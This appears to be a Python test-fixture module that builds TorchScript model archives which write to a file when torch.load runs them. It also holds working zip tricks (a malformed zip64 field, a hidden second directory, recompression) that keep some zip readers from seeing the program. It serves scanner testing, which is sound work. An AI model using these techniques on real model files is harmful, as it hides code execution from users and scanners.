"""Programs of TorchScript that write a file when `torch.load` runs them, and disguises of them.

Readers of zip files differ in what they take for one: each disguise has one see no program where
torch's sees it, or fail where torch's does not.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Iterator

import torch

_CENTRAL, _END = b"PK\x01\x02", b"PK\x05\x06"


class _Writer(torch.nn.Module):
    def __init__(self, path: str) -> None:
        super().__init__()
        self.path = path
        self.kept = torch.zeros(3, dtype=torch.uint8)

    @torch.jit.export
    def __getstate__(self):
        return (self.path, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]):
        self.path = state[0]
        self.training = state[1]
        mapped = torch.from_file(state[0], True, 3, dtype=torch.uint8)
        # Kept, for else the compiler finds that nobody needs it.
        self.kept = mapped.copy_(torch.ones(3, dtype=torch.uint8))

    def forward(self, x):
        return x


def program(path: str) -> bytes:
    """Returns an archive that writes a file at the path when it is loaded as TorchScript."""
    file = io.BytesIO()
    torch.jit.save(torch.jit.script(_Writer(path)), file)
    return file.getvalue()


def with_false_extra_field(archive: bytes) -> bytes:
    """Gives the first entry of the directory a zip64 field that is shorter than it says."""
    at = archive.index(_CENTRAL)
    name, extra = struct.unpack("<HH", archive[at + 28 : at + 32])
    field = struct.pack("<HH", 1, 64) + b"\0" * 4
    insert = at + 46 + name + extra
    changed = bytearray(archive[:insert] + field + archive[insert:])
    changed[at + 30 : at + 32] = struct.pack("<H", extra + len(field))
    end = bytes(changed).rindex(_END)
    (size,) = struct.unpack("<I", changed[end + 12 : end + 16])
    if size != 0xFFFFFFFF:
        changed[end + 12 : end + 16] = struct.pack("<I", size + len(field))
    return bytes(changed)


def with_two_directories(archive: bytes) -> bytes:
    """Adds a harmless archive: Python's reader finds its directory, and torch's the program's.

    Both look for the end of a zip64 archive. Torch's goes where its locator points to, Python's
    takes what stands before the locator.
    """
    file = io.BytesIO()
    torch.save({}, file)
    begin, directory = _parts(archive)
    changed = begin + directory + _end_of_zip64(directory, len(begin))
    start = len(changed)
    begin, other = _parts(file.getvalue())
    other = _moved(other, start)
    changed += begin + other + _end_of_zip64(other, start + len(begin))
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, start - 56, 1)
    end = struct.pack("<4s4H2LH", _END, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return changed + locator + end


def _parts(archive: bytes) -> tuple[bytes, bytes]:
    """Returns the records of an archive and its directory."""
    at = archive.index(_CENTRAL)
    size = sum(len(each) for each in _entries(archive[at:]))
    return archive[:at], archive[at : at + size]


def _entries(directory: bytes) -> Iterator[bytes]:
    while directory.startswith(_CENTRAL):
        size = 46 + sum(struct.unpack("<3H", directory[28:34]))
        yield directory[:size]
        directory = directory[size:]


def _moved(directory: bytes, by: int) -> bytes:
    return b"".join(
        each[:42] + struct.pack("<I", struct.unpack("<I", each[42:46])[0] + by) + each[46:]
        for each in _entries(directory)
    )


def _end_of_zip64(directory: bytes, offset: int) -> bytes:
    count = len([*_entries(directory)])
    numbers = (44, 45, 45, 0, 0, count, count, len(directory), offset)
    return struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", *numbers)


def compressed(archive: bytes) -> bytes:
    """Writes the same records anew, compressed."""
    file = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(archive)) as old,
        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            new.writestr(name, old.read(name))
    return file.getvalue()


DISGUISES: dict[str, Callable[[bytes], bytes]] = {
    "as it is": bytes,
    "false extra field": with_false_extra_field,
    "two directories": with_two_directories,
    "compressed": compressed,
}
"""Ways to write a program so that some readers of zip files do not see it."""
